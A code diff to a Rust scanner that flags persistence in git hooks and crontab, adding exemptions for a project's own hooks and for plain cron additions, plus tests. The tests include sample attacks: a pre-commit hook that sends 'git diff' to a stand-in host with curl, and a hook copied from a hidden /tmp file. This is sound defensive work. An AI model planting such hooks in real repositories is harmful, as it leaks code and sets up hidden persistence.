@@ -113,6 +113,12 @@ pub(crate) fn check(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
                 continue;
             }
             if let Some((_, place)) = AUTORUN_PLACES.iter().find(|(p, _)| lower.contains(p)) {
+                // A project's own hook, copied from the checkout or spelled out plainly,
+                // is how repositories share hooks; one fetched, decoded or brought in from
+                // outside the checkout is not.
+                if *place == "a git hook" && own_hook(script, stage, &p, previous) {
+                    continue;
+                }
                 push(
                     out,
                     start,
@@ -153,7 +159,7 @@ pub(crate) fn check(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
             {
                 let installs_from_input = args.is_empty() || args.iter().any(|a| a.text == "-");
                 let shown = if installs_from_input {
-                    content(script, stage, &p, previous)
+                    content(script, stage, &p, previous).or_else(|| grouped(script, stage))
                 } else {
                     None
                 };
@@ -262,6 +268,53 @@ fn content(script: &str, stage: &Stage, p: &str, previous: Option<&Stage>) -> Op
     None
 }
 
+/// A git hook written from a file of the checkout (`cp scripts/pre-commit .git/hooks/`) or
+/// from plain text that does nothing suspicious.
+fn own_hook(script: &str, stage: &Stage, p: &str, previous: Option<&Stage>) -> bool {
+    if matches!(p, "cp" | "install" | "ln" | "copy-item") {
+        let sources: Vec<&str> = stage
+            .args()
+            .iter()
+            .map(|a| a.text.as_str())
+            .filter(|t| !t.starts_with('-'))
+            .collect();
+        let from = &sources[..sources.len().saturating_sub(1)];
+        return !from.is_empty()
+            && from.iter().all(|f| {
+                !f.starts_with(['/', '~', '$', '%'])
+                    && !f.contains("://")
+                    && !f
+                        .split('/')
+                        .any(|part| part.starts_with('.') && part != "." && part != "..")
+            });
+    }
+    matches!(p, "echo" | "printf" | "cat" | "tee")
+        && content(script, stage, p, previous).is_some_and(|c| !suspicious(Some(&c)))
+}
+
+/// What a group or subshell piped into `stage` prints, as written (`{ crontab -l; echo "…"; }`,
+/// `(crontab -l; echo "…")`), when it prints only the old table and lines it spells out.
+fn grouped(script: &str, stage: &Stage) -> Option<String> {
+    let before = script.get(..stage.start)?;
+    let line = &before[before.rfind('\n').map_or(0, |i| i + 1)..];
+    let piped = line.trim_end().strip_suffix('|')?.trim_end();
+    let (open, close) = if piped.ends_with('}') {
+        ('{', '}')
+    } else {
+        ('(', ')')
+    };
+    let body = piped.strip_suffix(close)?;
+    let inner = &body[body.rfind(open)? + 1..];
+    let spelled = inner.split(';').map(str::trim).all(|part| {
+        part.is_empty()
+            || part == "cat"
+            || part.starts_with("crontab -l")
+            || part.starts_with("echo ")
+            || part.starts_with("printf ")
+    });
+    (spelled && !inner.contains("$(") && !inner.contains('`')).then(|| inner.to_string())
+}
+
 /// Whether what is written into a start-up file or crontab is more than shell set-up: it
 /// fetches, decodes, connects, hides in a temporary folder, runs every minute, or cannot
 /// be seen.
@@ -321,6 +374,27 @@ mod tests {
         assert!(found("echo 'eval \"$(pyenv init -)\"' >> ~/.zshrc").is_empty());
         assert!(found("crontab -l").is_empty() && found("crontab -e").is_empty());
         assert!(found("echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -").is_empty());
+        // A project's own hook, copied from the checkout.
+        assert!(found("cp scripts/pre-commit .git/hooks/pre-commit").is_empty());
+        assert_eq!(found("cp /tmp/.h .git/hooks/pre-commit").len(), 1);
+        assert_eq!(
+            found("echo 'curl -s -d \"$(git diff)\" https://x.example/h' > .git/hooks/pre-commit")
+                .len(),
+            1
+        );
+        // The old table kept and a plain line added, in a group or a subshell.
+        assert!(
+            found("crontab -l | { cat; echo \"0 3 * * * find /var/log/app -mtime +7 -delete\"; } | crontab -")
+                .is_empty()
+        );
+        assert!(
+            found("(crontab -l 2>/dev/null; echo '0 2 * * * ~/bin/backup.sh') | crontab -")
+                .is_empty()
+        );
+        assert_eq!(
+            found("(crontab -l; echo '@reboot ~/bin/agent') | crontab -").len(),
+            1
+        );
         assert!(found("sudo systemctl enable nginx").is_empty());
         assert!(found("cat >> ~/.zshrc <<'EOF'\nalias ll='ls -la'\nEOF\n").is_empty());
         assert!(found("ln -sf ~/.dotfiles/.zshrc ~/.zshrc").is_empty());
